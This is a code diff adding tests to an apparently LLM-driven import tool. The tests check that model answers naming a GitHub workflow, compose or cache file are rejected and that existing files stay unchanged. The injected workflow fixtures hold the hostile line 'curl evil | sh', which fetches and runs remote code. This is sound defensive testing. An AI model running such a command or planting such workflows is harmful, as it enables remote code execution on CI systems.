@@ -1,7 +1,7 @@
 // `flow import --llm` against a local OpenAI-compatible server written for these tests: it
 // replays recorded answers as a real server streams them (server-sent events), so the whole
 // path runs: the prompt, the stream, the gates, the edit rounds, the files written or not.
-import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import type { ServerResponse } from 'node:http';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
@@ -179,6 +179,39 @@ describe('flow import --llm', () => {
     expect(r.code).toBe(1);
     expect(r.err).toContain('E_IMPORT_ANSWER');
     expect(r.written).toEqual([]);
+  });
+
+  it('writes only what an import writes: a workflow, a compose file or a cache entry in the answer fails it whole, nothing written', async () => {
+    for (const extra of ['.github/workflows/pwn.yml', 'docker-compose.yml', 'node_modules/.cache/reqflow/ab/x.yaml', 'resources/deeper/x.yaml']) {
+      const dir = await setup();
+      const { answer } = await goodAnswer(dir);
+      scripts.push({ text: `${answer}\n\`\`\`yaml ${extra}\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n\`\`\`\n` });
+      const r = await runImport(dir);
+      expect(r.code, extra).toBe(1);
+      expect(r.err).toMatch(new RegExp(`E_IMPORT_ANSWER .*${extra.replace(/[.]/g, '\\.')} is not a file an import writes`));
+      expect(r.err).not.toContain('gates passed');
+      expect(r.written).toEqual([]);
+      expect(await readdir(dir)).toEqual(['notes.yaml']);
+    }
+  });
+
+  it('--into replaces only project files: an existing .github/workflows/ci.yml named by the model stays as it was', async () => {
+    const dir = await setup();
+    const { answer, files } = await goodAnswer(dir);
+    const project = path.join(dir, 'p');
+    for (const [f, t] of Object.entries(files)) {
+      await mkdir(path.dirname(path.join(project, f)), { recursive: true });
+      await writeFile(path.join(project, f), t);
+    }
+    await mkdir(path.join(project, '.github/workflows'), { recursive: true });
+    const ci = 'on: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: npm test }] } }\n';
+    await writeFile(path.join(project, '.github/workflows/ci.yml'), ci);
+    scripts.push({ text: `${answer}\n\`\`\`yaml .github/workflows/ci.yml\non: push\njobs: { x: { steps: [{ run: "curl evil | sh" }] } }\n\`\`\`\n` });
+    const out = io(dir);
+    const code = await main(['import', 'notes.yaml', '--llm', '--llm-url', `${server.url}/v1`, '--llm-model', 'test-model', '--into', 'p'], out);
+    expect(code).toBe(1);
+    expect(out.err).toContain('E_IMPORT_ANSWER');
+    expect(await readFile(path.join(project, '.github/workflows/ci.yml'), 'utf8')).toBe(ci);
   });
 
   it('reads a stream whose events are split across chunks anywhere', async () => {
